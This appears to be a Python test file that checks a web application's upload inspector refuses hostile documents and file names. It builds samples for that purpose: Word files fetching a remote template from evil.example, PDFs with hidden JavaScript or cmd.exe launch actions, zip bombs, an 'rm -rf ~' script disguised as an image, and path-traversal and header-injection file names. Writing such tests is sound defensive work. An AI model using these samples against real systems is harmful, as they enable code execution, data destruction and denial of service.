"""Hostile files: what they are is judged by what is in them, and judging them costs next to nothing."""

import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from PIL import Image
from pypdf import PdfWriter
from werkzeug.test import TestResponse

from db import inspection, inspector
from db.clock import FrozenClock
from db.database import Database
from db.errors import DomainError
from db.inspector import RefusedFile
from db.scope import StaffRole
from db.storage import MAX_SIZE, MEGABYTE, Storage
from tests.applications.support import JPEG, PDF, PNG, docx, pdf
from tests.support.panel import Visitor, add_staff, make_panel
from tests.trust.planted import Planted, plant

TEMPLATE = b"""<Relationships><Relationship Id="r1" Target="https://evil.example/x.dotm" TargetMode="External"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>"""
LINK = TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
SCRIPT = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def directory_of_nothing() -> bytes:
    """A zip that is all table of contents: 20 MB of entries for no files."""
    name = b"[Content_Types].xml"
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    first = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    count = (MAX_SIZE - len(first) - 22) // len(entry)
    content = first + entry * count
    return content + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(entry) * count, len(first), 0
    )


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * 150 * MEGABYTE)
    return buffer.getvalue()


RELS = "word/_rels/settings.xml.rels"
DOCUMENT = "http://schemas.openxmlformats.org/package/2006/relationships"
PREFIXED = (
    TEMPLATE.replace(b"<Relationships>", f'<p:Relationships xmlns:p="{DOCUMENT}">'.encode())
    .replace(b"<Relationship ", b"<p:Relationship ")
    .replace(b"</Relationships>", b"</p:Relationships>")
)
PICTURE = TEMPLATE.replace(b"attachedTemplate", b"image")
MACROS = b"""<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"""
OWN_TEMPLATE = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///C:\\Users\\Vera\\My%20forms\\x.dotm")
SERVER = TEMPLATE.replace(b"https://evil.example/x.dotm", b"file:///%5C%5Cevil.example\\x.dotm")


def typed(types: bytes) -> bytes:
    """A Word document with content types of its own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def with_main_part(name: str) -> bytes:
    """As some programs write it: the main part has another name."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    root = f'<Relationships><Relationship Id="r" Type="{kind}" Target="{name}"/></Relationships>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for part, content in (("[Content_Types].xml", "<Types/>"), ("_rels/.rels", root), (name, "<document/>")):
            archive.writestr(part, content)
    return buffer.getvalue()


FETCHING: dict[str, bytes] = {
    "prefixed names": docx(extra={RELS: PREFIXED}),
    "character references": docx(extra={RELS: TEMPLATE.replace(b'"External"', b'"&#69;xternal"')}),
    "UTF-16": docx(extra={RELS: TEMPLATE.decode().encode("utf-16")}),
    "a megabyte of room": docx(extra={RELS: TEMPLATE.replace(b"<Rel", b"<!--" + b"x- " * 400_000 + b"--><Rel", 1)}),
    "another folder": docx(extra={"custom/_rels/part.xml.rels": TEMPLATE}),
    "the root": docx(extra={"_rels/.rels": TEMPLATE}),
    "an external picture": docx(extra={RELS: PICTURE}),
    "a server's folder": docx(extra={RELS: SERVER}),
    "an entity": docx(extra={RELS: b'<!DOCTYPE r [<!ENTITY e "External">]>' + TEMPLATE}),
    "no XML": docx(extra={RELS: b"<Relationships"}),
}
RUNNING: dict[str, bytes] = {
    "an extra part": docx(extra={"word/vbaProject.bin": b"x"}),
    "macros of another name": typed(MACROS),
    "a main part with macros": typed(
        b'<Types><Override PartName="/word/document.xml"'
        b' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    ),
}


def judged(folder: Path, content: bytes) -> str:
    """What the inspector says: the kind, or the code of the refusal."""
    file = folder / "file"
    file.write_bytes(content)
    try:
        return inspector.judge(file)
    except RefusedFile as refusal:
        return str(refusal)


@pytest.mark.parametrize("trick", FETCHING)
def test_a_word_file_that_fetches_is_refused_however_it_hides_it(tmp_path: Path, trick: str) -> None:
    """Eight of ten ways around a search for the word «External» passed."""
    assert judged(tmp_path, FETCHING[trick]) in ("document_fetches", "document_broken")


@pytest.mark.parametrize("trick", RUNNING)
def test_a_word_file_with_macros_is_refused_whatever_its_parts_are_called(tmp_path: Path, trick: str) -> None:
    assert judged(tmp_path, RUNNING[trick]) == "document_macros"


def encrypted(content: bytes, user: str) -> bytes:
    """A PDF with an owner's password, and one to open it unless it is empty."""
    writer = PdfWriter(clone_from=io.BytesIO(content))
    writer.encrypt(user, "owner", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


SCRIPTED = pdf("/OpenAction 4 0 R", "", "<</S/JavaScript/JS(app.alert\\(1\\))>>")


def packed() -> bytes:
    """A PDF whose script is in an object stream, as most programs write: nothing of it can be read in the file."""
    inner = zlib.compress(b"4 0 <</S/JavaScript/JS(1)>>")
    content = pdf("/OpenAction 4 0 R").split(b"xref\n")[0]
    places = {number: content.index(f"{number} 0 obj".encode()) for number in (1, 2, 3)}
    places[5] = len(content)
    content += b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(inner)
    content += inner + b"\nendstream endobj\n"
    places[6] = len(content)
    rows = [
        (0, 0, 0),
        *((1, places[number], 0) for number in (1, 2, 3)),
        (2, 5, 0),
        (1, places[5], 0),
        (1, places[6], 0),
    ]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    content += b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return content + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % places[6]


ACTIVE: dict[str, bytes] = {
    "a script at opening": SCRIPTED,
    "a name in another spelling": SCRIPTED.replace(b"JavaScript", b"J#61vaScr#69pt").replace(b"/JS", b"/#4a#53"),
    "a program": pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "a program behind a link": pdf("", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
    "a script of a page": pdf("", "/AA<</O<</S/JavaScript/JS(1)>>>>"),
    "a script behind an owner's password": encrypted(SCRIPTED, ""),
    "a script in a packed object": packed(),
    "a form that is a program": pdf("/AcroForm<</XFA[(x) 4 0 R]>>", "", "<</Length 0>>stream\n\nendstream"),
    "a text that looks like a stream": pdf("/Lang(stream\n)/OpenAction<</S/JavaScript/JS(endstream)>>"),
}


@pytest.mark.parametrize("trick", ACTIVE)
def test_a_pdf_that_runs_something_is_refused_however_it_hides_it(tmp_path: Path, trick: str) -> None:
    assert judged(tmp_path, ACTIVE[trick]) == "document_active"


def test_a_pdf_that_asks_for_a_password_is_refused_and_one_with_the_owners_only_is_kept(tmp_path: Path) -> None:
    assert judged(tmp_path, encrypted(PDF, "user")) == "document_locked"
    assert judged(tmp_path, encrypted(PDF, "")) == "pdf"


@pytest.mark.parametrize("content", [b"%PDF-1.7", PDF[: len(PDF) // 2], PDF[:-20], b"%PDF-1.4\n%%EOF"])
def test_a_piece_of_a_pdf_is_no_evidence(tmp_path: Path, content: bytes) -> None:
    assert judged(tmp_path, content) == "document_broken"


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (docx(extra={RELS: OWN_TEMPLATE}), "docx"),
        (docx(extra={"word/_rels/document.xml.rels": LINK}), "docx"),
        (with_main_part("word/document2.xml"), "docx"),
        (b"\xef\xbb\xbf" + PDF, "pdf"),
        (PDF + b"\r\n" * 40, "pdf"),
        (pdf("/Lang(a word about /Launching)"), "pdf"),
        (PNG, "png"),
        (JPEG, "jpg"),
    ],
    ids=["own template", "links", "document2.xml", "a BOM", "blank lines", "a word", "png", "jpg"],
)
def test_what_honest_programs_write_is_kept(tmp_path: Path, content: bytes, kind: str) -> None:
    assert judged(tmp_path, content) == kind


def test_a_picture_of_a_thousand_million_pixels_is_refused_unread(tmp_path: Path) -> None:
    header = b"IHDR" + struct.pack(">2I", 30_000, 30_000) + PNG[24:29]
    png = PNG[:12] + header + struct.pack(">I", zlib.crc32(header)) + PNG[33:]
    place = JPEG.index(b"\xff\xc0") + 5
    jpeg = JPEG[:place] + struct.pack(">2H", 30_000, 30_000) + JPEG[place + 4 :]
    assert [judged(tmp_path, picture) for picture in (png, jpeg)] == ["document_pixels"] * 2
    assert [judged(tmp_path, picture[:14]) for picture in (PNG, JPEG)] == ["document_broken"] * 2


def test_a_page_of_any_size_is_a_picture_of_bounded_size(tmp_path: Path) -> None:
    file = tmp_path / "file"
    for width, height in ((200, 100), (14_400, 14_400), (2_000_000, 1), (1, 1)):
        file.write_bytes(PDF.replace(b"200 100", f"{width} {height}".encode()))
        assert inspector.pages(file) == {"count": 1, "sizes": [(width, height)]}
        with Image.open(io.BytesIO(inspector.draw(file, 1))) as drawn:
            assert max(drawn.size) <= inspector.LONG_SIDE
    with pytest.raises(RefusedFile):
        inspector.draw(file, 2)


def test_a_file_that_keeps_its_reader_busy_or_kills_it_holds_up_nobody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Programs stand for what a parser may do when a file has got the better of it."""
    file = tmp_path / "file"
    monkeypatch.setattr(inspection, "LASTS", 2)
    for number, doing in enumerate(("while True: pass", "import os; os.abort()", "bytearray(10**12)", "print(1/0)")):
        file.write_text(doing)
        program = tmp_path / f"{number}.py"
        bounds = "from db.inspector import bound; bound()"
        program.write_text(f"import sys; sys.path.insert(0, {str(Path.cwd())!r}); {bounds}\n{doing}")
        monkeypatch.setattr(inspection, "INSPECTOR", program)
        with pytest.raises(DomainError, match="document_broken"):
            inspection.judge(file)
        assert inspection.picture(file, number) is None


HOSTILE: dict[str, Callable[[], bytes]] = {
    "page.pdf": lambda: SCRIPT,
    "picture.png": lambda: SVG,
    "shell.jpg": lambda: b"#!/bin/sh\nrm -rf ~",
    "late.pdf": lambda: SCRIPT + PDF,
    "bomb.docx": bomb,
    "directory.docx": directory_of_nothing,
    "macros.docx": lambda: docx(extra={"word/vbaProject.bin": b"x"}),
    "template.docx": lambda: docx(extra={"word/_rels/settings.xml.rels": TEMPLATE}),
    "archive.docx": lambda: docx()[:60],
    "large.pdf": lambda: PDF + b"\0" * MAX_SIZE,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_is_refused_and_leaves_nothing(tmp_path: Path, name: str) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(HOSTILE[name]())
    tracemalloc.start()
    try:
        with pytest.raises(DomainError, match="document_"):
            storage.keep(temporary, name)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MEGABYTE
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "..\\..\\x.exe", "/etc/cron.d/x", "a\r\nSet-Cookie: x=1.pdf", "\u202efdp.exe", "\0"]
)
def test_a_hostile_name_is_only_shown(tmp_path: Path, name: str) -> None:
    storage = Storage(tmp_path)
    temporary = storage.incoming()
    temporary.write_bytes(PDF)
    kept = storage.keep(temporary, name)
    assert not set(kept.file_name) & set("/\\\r\n\0\u202e")
    assert kept.file_name.endswith(".pdf")
    assert storage.path(kept.stored_name).parent.parent == tmp_path / "documents"


@pytest.fixture
def planted(database: Database, clock: FrozenClock) -> Planted:
    return database.write(plant, first=8001, municipality="chelyabinsky-go", now=clock.now())


@pytest.fixture
def panel(database: Database, clock: FrozenClock, planted: Planted, tmp_path: Path) -> Flask:
    database.write(add_staff, login="region", role=StaffRole.REGIONAL_METHODIST, now=clock.now())
    for name in planted.stored:
        path = Storage(tmp_path).place(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"%PDF-1.4 " + SCRIPT)
    return make_panel(database, clock, tmp_path)


@pytest.mark.parametrize("way", ["", "?download=1"])
def test_a_document_in_the_panel_can_do_nothing(panel: Flask, planted: Planted, way: str) -> None:
    visitor = Visitor(panel)
    visitor.sign_in("region")
    answer: TestResponse = visitor.get(f"/applications/{planted.sent}/documents/{planted.documents[1]}{way}")
    assert answer.status_code == 200
    assert answer.mimetype == "application/pdf"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert "script-src" not in answer.headers["Content-Security-Policy"]
    assert "; sandbox;" in answer.headers["Content-Security-Policy"]
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["Cache-Control"] == "no-store"
